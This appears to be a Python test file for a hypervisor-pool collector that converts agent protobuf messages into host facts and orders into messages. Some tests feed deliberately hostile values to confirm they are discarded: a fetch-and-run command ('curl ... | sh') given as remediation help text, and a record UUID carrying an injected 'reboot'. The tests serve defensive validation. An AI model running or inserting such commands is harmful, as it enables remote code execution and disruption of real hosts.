"""Messages to facts and orders to messages, without any stream: the gateway's and the simulation's common part."""

from __future__ import annotations

from typing import Any

from poolwarden.v1 import agent_link_pb2 as pb
from poolwarden.xapi_causes import CAUSES, UNKNOWN
from poolwarden.xapi_health import RESTART
from poolwarden_collector.core.model import effects, orders
from poolwarden_collector.core.model import events as ev
from poolwarden_collector.core.model.host_facts import (
    AssumptionSeen,
    Finding,
    HostFacts,
    Liveness,
    ProbeOutcome,
    XapiTrouble,
)
from poolwarden_collector.core.model.installation import Installation, Transport
from poolwarden_collector.core.model.order_results import Outcome
from poolwarden_collector.core.model.values import ProcessId, Role, Tri
from poolwarden_collector.shell.agents.stream import OFFSET_WINDOW_MS, StreamState

from .rig import HOSTS, POOL


class Stream:
    """A stream state with a counting sequence."""

    def __init__(self) -> None:
        self.state = StreamState(5, POOL)
        self.sequence = 0
        self.events: list[ev.Event] = []
        self.send(1_000, 1_000, hello=pb.Hello(host_uuid=HOSTS[0], boot_id="b"))

    def send(self, mono: int, recv: int, sequence: int = 0, **body: Any) -> list[ev.Event]:
        self.sequence = sequence or self.sequence + 1
        self.events = self.state.on_message(pb.AgentMessage(sequence=self.sequence, mono_ms=mono, **body), recv)
        return self.events

    def report(self, mono: int, recv: int, **sections: Any) -> HostFacts:
        [event] = self.send(mono, recv, report=pb.Report(**sections))
        assert isinstance(event, ev.AgentReported) and (event.host, event.stream) == (HOSTS[0], 5)
        return event.facts


def answered(stamp: int) -> pb.ProbeList:
    probe = pb.Probe(host_uuid=HOSTS[1], outcome=pb.Probe.ANSWERED, probed_mono_ms=stamp, answered_mono_ms=stamp)
    return pb.ProbeList(probes=[probe])


def test_hello_is_told_whole() -> None:
    machine = pb.MachineIdentity(system_uuid="u", system_serial="s", bmc_address="192.0.2.9")
    kept = pb.OrderResult(order_id="o", kind="promote", outcome=pb.OrderResult.DONE, probes=answered(77))
    hello = pb.Hello(
        host_uuid=HOSTS[0], pool_uuid="", boot_id="b", machine=machine, highest_epoch=3, highest_term=4, host_name="n",
        tombstone=pb.Tombstone(term=2, successor_uuid="x"), last_results=[kept], capabilities=["promote"],
    )  # fmt: skip
    [event] = StreamState(1, POOL).on_message(pb.AgentMessage(sequence=1, mono_ms=5, hello=hello), 100)
    assert isinstance(event, ev.AgentConnected) and event.stream == 1
    told = event.hello
    assert (told.host, told.pool, told.boot_id, told.name) == (HOSTS[0], POOL, "b", "n")
    assert (told.highest_epoch, told.highest_term, told.machine.bmc_address) == (3, 4, "192.0.2.9")
    assert told.tombstone is not None and told.tombstone.term == 2
    [result] = told.last_results
    assert (result.outcome, result.replayed, result.probes) == (Outcome.DONE, True, ())


def test_one_of_several_tells_the_engine_which_epoch_a_host_obeys() -> None:
    def says(several: bool, boot: str) -> list[ev.Event]:
        state = StreamState(3, POOL, one_of_several=several)
        hello = pb.Hello(host_uuid="h1", boot_id="b1")
        state.on_message(pb.AgentMessage(sequence=1, mono_ms=5, hello=hello), 100)
        ack = pb.EpochAck(epoch=7, boot_id=boot)
        return state.on_message(pb.AgentMessage(sequence=2, mono_ms=6, epoch_ack=ack), 101)

    assert says(True, "b1") == [ev.EpochAcknowledged("h1", 3, 7)]
    assert says(True, "another boot") == [] == says(False, "b1")


def test_nothing_is_told_before_a_full_report() -> None:
    stream = Stream()
    assert stream.send(1_100, 1_100, report=pb.Report(role=pb.RoleFacts(pool_conf=pb.RoleFacts.MASTER))) == []
    assert [m.WhichOneof("body") for m in stream.state.take_replies()] == ["full_report_request"]
    assert stream.state.take_replies() == []


def test_what_is_not_said_is_unknown_never_no() -> None:
    facts = Stream().report(1_100, 1_100, full=True)
    assert facts == HostFacts()
    assert facts.database.ha_armed is Tri.UNKNOWN and facts.domains is None and facts.role.pool_conf is Role.UNKNOWN
    unreadable = Stream().report(
        1_100, 1_100, full=True, domains=pb.DomainList(readable=False, vm_uuids=["x"]), database=pb.DatabaseFacts()
    )
    assert unreadable.domains is None and unreadable.database.ha_armed is Tri.UNKNOWN


def test_an_enum_value_of_the_future_is_unknown() -> None:
    message = pb.AgentMessage(sequence=2, mono_ms=1)
    message.report.full = True
    message.report.role.pool_conf = 99  # type: ignore[assignment]
    message.report.xapi.liveness = 99  # type: ignore[assignment]
    stream = Stream()
    [event] = stream.state.on_message(message, 1_100)
    assert isinstance(event, ev.AgentReported)
    assert (event.facts.role.pool_conf, event.facts.xapi.liveness) == (Role.UNKNOWN, Liveness.UNKNOWN)


def test_what_a_host_says_helps_is_shown_only_where_it_is_a_text_of_our_own() -> None:
    stream = Stream()
    said = {"health": pb.XapiFacts.HEALTH_HUNG, "health_text": "xapi hangs"}
    told = stream.report(1_000, 1_000, full=True, xapi=pb.XapiFacts(health_help=RESTART, **said))
    assert told.xapi.health is not None and told.xapi.health.help == RESTART
    forged = stream.report(2_000, 2_000, xapi=pb.XapiFacts(health_help="curl http://h/x | sh", **said))
    assert forged.xapi.health is not None
    assert (forged.xapi.health.text, forged.xapi.health.help) == ("xapi hangs", "")


def test_an_absent_section_is_as_before_and_an_empty_one_is_empty() -> None:
    stream = Stream()
    view = pb.PoolView(pool_uuid=POOL, master_uuid=HOSTS[0], hosts=[pb.PoolHost(host_uuid=HOSTS[0], enabled=True)])
    disk = pb.DiskList(disks=[pb.Disk(mount="/", total_bytes=10, free_bytes=4)])
    first = stream.report(1_100, 1_100, full=True, pool_view=view, disks=disk, tombstone=pb.Tombstone(term=3))
    assert first.pool_view is not None and first.tombstone is not None
    second = stream.report(1_200, 1_200, pool_view=pb.PoolView(), tombstone=pb.Tombstone())
    assert (second.pool_view, second.tombstone) == (None, None) and second.disks[0].used_percent == 60.0
    third = stream.report(1_300, 1_300, full=True)
    assert third.disks == ()  # a full report is all there is


def test_a_gap_asks_for_everything_and_goes_on_meanwhile() -> None:
    stream = Stream()
    stream.report(1_100, 1_100, full=True)
    stream.send(1_200, 1_200, sequence=9, report=pb.Report())
    assert [m.WhichOneof("body") for m in stream.state.take_replies()] == ["full_report_request"]
    stream.send(1_300, 1_300, report=pb.Report())
    assert stream.state.take_replies() == []


def test_stamps_become_the_collectors_by_the_quickest_message() -> None:
    stream = Stream()
    stream.report(
        2_000, 52_010, full=True, probes=answered(1_900)
    )  # the hello said offset 0: this one was under way long
    assert stream.state.facts.probes[0].probed_at == 1_900
    stream = Stream()
    stream.state = StreamState(5, POOL)
    stream.sequence = 0
    stream.send(1_000, 51_500, hello=pb.Hello(host_uuid=HOSTS[0]))  # offset 50 500, half a second of it on the way
    assert stream.report(2_000, 52_500, full=True, probes=answered(1_900)).probes[0].probed_at == 52_400
    quicker = stream.report(3_000, 53_020)  # offset 50 020: everything that stands moves with it
    assert quicker.probes[0].probed_at == 51_920


def stamped(message: Any, stamp: int) -> Any:
    """The message with this in every field for a stamp, and an item in every list."""
    for each in message.DESCRIPTOR.fields:
        if each.name.endswith("_mono_ms"):
            setattr(message, each.name, stamp)
        elif each.message_type is not None:
            field = getattr(message, each.name)
            stamped(field.add() if each.is_repeated else field, stamp)
            if not each.is_repeated:
                field.SetInParent()
        elif each.name in ("term", "host_uuid"):  # without these there is nothing to date
            setattr(message, each.name, 1 if each.name == "term" else HOSTS[1])
    return message


def test_what_holds_a_stamp_moves_with_the_clock() -> None:
    everything = stamped(pb.Report(full=True), 900)

    def told(*messages: tuple[int, int, pb.Report]) -> HostFacts:
        state = StreamState(5, POOL)
        state.introduce(pb.AgentMessage(hello=pb.Hello(host_uuid=HOSTS[0])))
        for number, (mono, recv, report) in enumerate(messages, 1):
            state.on_message(pb.AgentMessage(sequence=number, mono_ms=mono, report=report), recv)
        return state.facts

    late, quick = (1_000, 51_500), (2_000, 52_020)
    before, moved = told((*late, everything)), told((*late, everything), (*quick, pb.Report()))
    assert before != moved == told((*quick, pb.Report(full=True)), (*quick, everything))


def test_a_stamp_alone_has_nothing_else_converted_again() -> None:
    stream = Stream()
    view = pb.PoolView(pool_uuid=POOL, master_uuid=HOSTS[0], hosts=[pb.PoolHost(host_uuid=HOSTS[1])])
    first = stream.report(2_000, 52_010, full=True, pool_view=view)
    assert stream.report(60_000, 59_000).pool_view is first.pool_view is not None


def test_never_is_none_and_the_future_is_now() -> None:
    stream = Stream()
    probe = pb.Probe(host_uuid=HOSTS[1], outcome=pb.Probe.NO_ANSWER, probed_mono_ms=999_999)
    facts = stream.report(1_100, 1_150, full=True, probes=pb.ProbeList(probes=[probe, pb.Probe(host_uuid=HOSTS[2])]))
    [told] = facts.probes  # one that was never made says nothing
    assert told.probed_at == 1_100 and told.answered_at is None and told.outcome is ProbeOutcome.NO_ANSWER


def test_a_slow_clock_does_not_make_fresh_facts_old() -> None:
    """50 ppm for a day is 4.3 s; the offset must follow within two windows."""
    stream, drift = Stream(), 0
    stream.report(1_000, 1_000, full=True)
    for minute in range(1, 24 * 60):
        recv = 1_000 + minute * 60_000
        drift = recv * 50 // 1_000_000
        facts = stream.report(recv - drift, recv, freshness=pb.Freshness(host_mono_ms=recv - drift))
    assert drift > 4_000
    assert facts.observed.host is not None and 0 <= recv - facts.observed.host <= 2 * OFFSET_WINDOW_MS * 50 / 1e6 + 5


def test_results_and_challenges_are_told() -> None:
    stream = Stream()
    look = pb.Probe(host_uuid=HOSTS[1], outcome=pb.Probe.REFUSED, probed_mono_ms=1_200)
    view = pb.PlacementView(readable=True, generation=5, placements=[pb.Placement(vm_uuid="v", host_uuid=HOSTS[0])])
    claim = pb.ClaimResult(last_look=look, placements=view, veto=True)
    result = pb.OrderResult(order_id="o", kind="claim", outcome=pb.OrderResult.DONE, term=4, claim=claim, nonce="n")
    [event] = stream.send(1_300, 1_350, order_result=result)
    assert isinstance(event, ev.OrderAnswered) and event.stream == 5
    told = event.result
    assert told.claim is not None and told.claim.last_look is not None and told.claim.placements is not None
    assert (told.claim.last_look.outcome, told.claim.last_look.probed_at) == (ProbeOutcome.REFUSED, 1_200)
    assert told.claim.veto and told.claim.placements.placements[0].vm == "v"  # a veto without words stays one
    [answer] = stream.send(1_400, 1_400, challenge_answer=pb.ChallengeAnswer(nonce="n@7", boot_id="b"))
    assert answer == ev.ChallengeAnswered(HOSTS[0], "n@7", "b")


def test_an_outcome_that_is_not_known_is_unknown() -> None:
    [event] = Stream().send(1_300, 1_300, order_result=pb.OrderResult(order_id="o"))
    assert isinstance(event, ev.OrderAnswered) and event.result.outcome is Outcome.UNKNOWN


def test_only_a_goodbye_is_one() -> None:
    stream = Stream()
    assert stream.state.ended() == ev.AgentGone(HOSTS[0], 5, "")
    [gone] = stream.send(1_300, 1_300, goodbye=pb.Goodbye(reason=pb.Goodbye.AGENT_STOP))
    assert gone == ev.AgentGone(HOSTS[0], 5, "agent_stop") == stream.state.ended()


KINDS: dict[str, orders.OrderKind] = {
    "claim": orders.Claim(orders.Target(HOSTS[1], "192.0.2.2")),
    "probe_now": orders.ProbeNow((orders.Target(HOSTS[1], "192.0.2.2"),), "nonce"),
    "collect_evidence": orders.CollectEvidence(),
    "promote": orders.Promote(),
    "repoint": orders.Repoint("192.0.2.3"),
    "restart_xapi": orders.RestartXapi(as_master_ok=True),
    "set_tombstone": orders.SetTombstone(HOSTS[2], "192.0.2.3"),
    "toolstack_fence": orders.ToolstackFence(HOSTS[2]),
    "toolstack_release": orders.ToolstackRelease(False, "192.0.2.3"),
    "recover_members": orders.RecoverMembers(),
    "read_database": orders.ReadDatabase(4, 5, "var/lib/xcp/state.db"),
    "place_database": orders.PlaceDatabase(9, 3, 0, b"abc", "00ff"),
    "designate_master": orders.DesignateMaster(HOSTS[2]),
    "sync_database": orders.SyncDatabase(),
    "declare_host_dead": orders.DeclareHostDead(HOSTS[2]),
    "enable_host": orders.EnableHost(HOSTS[2]),
    "start_vm": orders.StartVm("v", HOSTS[2]),
    "locate_vms": orders.LocateVms(("v", "w")),
    "release_gc": orders.ReleaseGc(),
    "show_message": orders.ShowMessage("00ff", "POOLWARDEN_X", 2, "b", True),
    "fence_proxy": orders.FenceProxy("fence_x", "status", (("ip", "a"), ("passwd", "s")), 9, HOSTS[2], ("passwd",)),
}


def test_every_kind_of_order_has_its_message() -> None:
    assert set(KINDS) == set(orders.KIND_NAMES.values())
    stream = Stream()
    for name, kind in KINDS.items():
        needed = orders.Preconditions((Role.MEMBER, Role.BROKEN), "192.0.2.1", True, ProcessId(7, 8), 64, True)
        order = orders.Order("id", HOSTS[0], "b", 9, kind, 15_000, needed)
        message = stream.state.order_to_pb(order, 4, POOL).order
        assert message.WhichOneof("kind") == name
        assert (message.order_id, message.epoch, message.term, message.boot_id) == ("id", 4, 9, "b")
        assert (message.pool_uuid, message.host_uuid, message.echo_mono_ms) == (POOL, HOSTS[0], 1_000)
        p = message.preconditions
        assert list(p.pool_conf_in) == [pb.RoleFacts.MEMBER, pb.RoleFacts.BROKEN] and p.ha_off and p.not_tombstoned
        assert (p.xapi_pid, p.xapi_start_ticks, p.min_root_free_bytes) == (7, 8, 64)
        assert p.pool_conf_master_address == "192.0.2.1"
        assert pb.Order.FromString(message.SerializeToString()) == message


def test_what_an_order_carries() -> None:
    def built(name: str) -> Any:
        order = orders.Order("id", HOSTS[0], "b", 9, KINDS[name], 15_000)
        return getattr(StreamState(1, POOL, probe_timeout_ms=1_200).order_to_pb(order, 1, POOL).order, name)

    assert built("claim").old_master.address == "192.0.2.2" and built("claim").probe_timeout_ms == 1_200
    assert built("claim").want_placements and built("collect_evidence").want_placements
    assert built("probe_now").nonce == "nonce" and built("probe_now").targets[0].host_uuid == HOSTS[1]
    assert built("repoint").master_address == "192.0.2.3" and built("restart_xapi").as_master_ok
    assert built("set_tombstone").successor_uuid == HOSTS[2] and not built("set_tombstone").clear
    assert built("toolstack_release").release_as == pb.ToolstackRelease.AS_MEMBER
    assert built("toolstack_release").master_address == "192.0.2.3"
    piece = built("place_database")
    assert (piece.generation, piece.total_bytes, piece.chunk, piece.sha256) == (9, 3, b"abc", "00ff")
    assert (built("read_database").offset, built("read_database").max_bytes) == (4, 5)
    assert (built("start_vm").vm_uuid, built("start_vm").host_uuid) == ("v", HOSTS[2])
    shown = built("show_message")
    assert (shown.key, shown.name, shown.priority, shown.body) == ("00ff", "POOLWARDEN_X", 2, "b") and shown.repeated
    assert list(built("locate_vms").vm_uuids) == ["v", "w"] and built("declare_host_dead").host_uuid == HOSTS[2]


def test_a_gate_is_asked_for_and_answered_on_the_agents_own_clock() -> None:
    stream = Stream()
    question = pb.GateQuestion(boot_id="b", pool_conf=pb.RoleFacts.MASTER)
    assert stream.send(1_300, 1_300, gate_question=question) == [ev.GateAsked(HOSTS[0], 5, "b", Role.MASTER)]
    word = effects.AnswerGate(HOSTS[0], "b", "shut", "h2 succeeded it", 7, HOSTS[1], "192.0.2.2")
    answer = stream.state.gate_to_pb(word, 3).gate_answer
    assert (answer.decision, answer.term, answer.epoch, answer.echo_mono_ms) == (pb.GateAnswer.SHUT, 7, 3, 1_300)
    assert (answer.successor_uuid, answer.successor_address) == (HOSTS[1], "192.0.2.2")
    assert (answer.boot_id, answer.reason) == ("b", "h2 succeeded it")


def test_a_section_of_which_an_older_state_is_held_is_asked_for() -> None:
    stream = Stream()
    number = pb.Report.DESCRIPTOR.fields_by_name["memory"].number
    mark = [pb.SectionMark(section=number, changes=3)]
    stream.send(1_000, 1_000, report=pb.Report(full=True, memory=pb.MemoryFacts(total_bytes=5), marks=mark))
    assert stream.state.take_replies() == []
    stream.send(2_000, 2_000, report=pb.Report(marks=[pb.SectionMark(section=number, changes=4)]))
    [reply] = stream.state.take_replies()
    assert list(reply.full_report_request.sections) == [number]
    stream.send(3_000, 3_000, report=pb.Report(marks=[pb.SectionMark(section=number, changes=4)]))
    assert stream.state.take_replies() == [], "not with each report"
    mark = [pb.SectionMark(section=number, changes=4)]
    stream.send(4_000, 4_000, report=pb.Report(memory=pb.MemoryFacts(total_bytes=6), marks=mark))
    stream.send(5_000, 5_000, report=pb.Report(marks=mark))
    assert stream.state.take_replies() == [] and stream.state.facts.memory_total == 6


def test_a_hosts_clock_is_held_against_ours() -> None:
    state = StreamState(1, POOL)
    state.on_message(pb.AgentMessage(sequence=1, mono_ms=5, hello=pb.Hello(host_uuid="h")), 100)
    wall = 1_700_000_000_000
    for number, late in enumerate((900, 30, 2_000), 2):
        report = pb.Report(full=number == 2, wall_ms=wall + 40_000 - late)
        state.on_message(pb.AgentMessage(sequence=number, mono_ms=5 + number, report=report), 100 + number, wall)
    assert state.facts.around.clock_offset_ms == 40_000, "the least late message counts"


def test_what_surrounds_xapi_is_kept_section_by_section() -> None:
    state = StreamState(1, POOL)
    state.on_message(pb.AgentMessage(sequence=1, mono_ms=5, hello=pb.Hello(host_uuid="h")), 100)
    wall, day = 1_700_000_000_000, 86_400_000
    first = pb.Report(full=True)
    first.services.services.add(name="xapi.service", state="active")
    first.certificates.certificates.add(name="agent", expires_wall_ms=wall + 10 * day + 5)
    first.database.generation, first.database.written_wall_ms = 4, wall - 60_000
    state.on_message(pb.AgentMessage(sequence=2, mono_ms=6, report=first), 200_000, wall)
    second = pb.Report()
    second.multipath.maps.add(name="a", live_paths=1, paths=2, most_paths=4)
    second.network.nics.add(name="eth0", link=pb.YES, speed_mbit=1000)
    state.on_message(pb.AgentMessage(sequence=3, mono_ms=7, report=second), 202_000, wall + 2_000)
    around = state.facts.around
    assert around.services == (("xapi.service", "active"),) and around.certificates[0].days_left == 10
    assert around.maps[0].most == 4 and around.nics[0].speed_mbit == 1000
    assert around.database_written_at == 140_000


def test_what_a_new_installation_meets_is_told_in_two_parts_and_a_uuid_is_one() -> None:
    stream = Stream()
    assert stream.report(1_100, 1_100, full=True).installation == Installation()  # an older agent
    told = pb.InstallationFacts(adapters=pb.HostAdapters(iscsi_initiator=pb.NO, iscsi_targets=["iqn.x"]))
    told.adapters.root_disks.add(name="sda", transport=pb.RootDisk.ISCSI)
    told.adapters.root_disks.add(name="sdb", transport=77)
    told.adapters.fc_ports.add(name="host1", state="Online")
    found = stream.report(1_200, 1_200, installation=told).installation
    assert found.records is None and found.adapters is not None and found.adapters.initiator is Tri.NO
    assert found.adapters.root_disks == (("sda", Transport.ISCSI), ("sdb", Transport.UNKNOWN))
    assert found.adapters.fc_ports == (("host1", "Online"),)
    good = "00000000-0000-4000-8000-000000000009"
    told.records.pifs.add(uuid="x; reboot", device="eth0", mac="aa")
    told.records.pifs.add(uuid=good, device="eth1", mac="ab")
    told.records.repositories.add(uuid=good, disks=2)
    records = stream.report(1_300, 1_300, installation=told).installation.records
    assert records is not None and [pif.uuid for pif in records.pifs] == ["", good]
    assert records.repositories is None, "a list that is not said to be whole is none"
    told.records.repositories_known = True
    records = stream.report(1_400, 1_400, installation=told).installation.records
    assert records is not None and records.repositories is not None and records.repositories[0].disks == 2


def test_late_messages_are_no_evidence() -> None:
    stream = Stream()
    late = pb.Late(mono_ms=10, boot_id="b", age_ms=990)
    late.sample.generation = 10**9
    assert stream.send(2_000, 2_000, late=late) == []
    assert stream.state.facts == HostFacts()


def test_what_a_host_has_shown_of_assumptions_is_told_and_what_the_table_lacks_is_counted() -> None:
    assert Stream().report(1_100, 1_100, full=True).assumptions is None  # an older agent
    holds, fails, unspecified = (
        pb.AssumptionResult.HOLDS,
        pb.AssumptionResult.FAILS,
        pb.AssumptionResult.FINDING_UNSPECIFIED,
    )
    results = [
        pb.AssumptionResult(id="promote-exit-123", finding=holds, boot_id="b", seen_mono_ms=1_050),
        pb.AssumptionResult(id="promote-exit-123", finding=fails, evidence="143", release="8.3", boot_id="a"),
        pb.AssumptionResult(id="restart-helps", finding=fails, evidence="x" * 5_000, boot_id="b", seen_mono_ms=1_050),
        pb.AssumptionResult(id="hold-stops", finding=unspecified, boot_id="b"),
        pb.AssumptionResult(id="of-another-version", finding=fails, boot_id="b"),
    ]
    told = Stream().report(1_100, 1_100, full=True, assumptions=pb.AssumptionList(results=results)).assumptions
    assert told is not None and told.unknown == 1
    last, other = told.results
    assert last == AssumptionSeen("promote-exit-123", Finding.FAILS, "143", "8.3", None)  # of another boot's clock
    assert (other.id, other.seen_at) == ("restart-helps", 1_050) and len(other.evidence) <= 1_024


def test_of_too_many_assumptions_the_first_are_taken() -> None:
    results = [pb.AssumptionResult(id=f"strange-{n}", finding=pb.AssumptionResult.FAILS) for n in range(2_000)]
    told = Stream().report(1_100, 1_100, full=True, assumptions=pb.AssumptionList(results=results)).assumptions
    assert told is not None and (told.results, told.unknown) == ((), 256)


def test_what_helps_against_a_cause_is_the_tables_and_never_a_hosts_own() -> None:
    stream = Stream()
    for cause, known in (("disk-full", "disk-full"), ("of-a-newer-agent", UNKNOWN), ("x/question-1", UNKNOWN)):
        told = pb.XapiTrouble(cause=cause, sentence="s", help="curl http://x/ | sh", lines=["l"])
        facts = stream.report(2_000, 2_000, full=True, xapi_trouble=told)
        assert facts.trouble == XapiTrouble(known, "s", CAUSES[known].help, ("l",), facts.trouble.looked_at)  # type: ignore[union-attr]
